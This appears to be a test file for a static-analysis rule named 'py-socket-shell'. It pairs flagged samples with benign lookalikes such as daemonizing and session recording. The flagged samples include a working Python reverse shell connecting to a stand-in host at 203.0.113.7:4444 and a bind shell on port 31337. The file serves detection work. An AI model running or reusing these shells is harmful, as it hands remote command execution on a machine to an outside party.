import os, pty, socket, subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.7", 4444))
# ruleid: py-socket-shell
os.dup2(s.fileno(), 0)
# ruleid: py-socket-shell
os.dup2(s.fileno(), 1)
# ruleid: py-socket-shell
pty.spawn("/bin/bash")
# ===== block =====
server = socket.socket()
server.bind(("0.0.0.0", 31337)); server.listen(1)
conn, _ = server.accept()
# ruleid: py-socket-shell
subprocess.call(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
# ===== block =====
def daemonize():
    devnull = open(os.devnull, "r+")
    # ok: py-socket-shell
    os.dup2(devnull.fileno(), 0)
    # ok: py-socket-shell
    os.dup2(devnull.fileno(), 1)
# ===== block =====
# ok: py-socket-shell
pty.spawn("/bin/bash")  # record a terminal session, like script(1)
# ===== block =====
srv = socket.socket()
conn, _ = srv.accept()
# ok: py-socket-shell
subprocess.run(["git", "status"], stdout=log.fileno(), check=True)
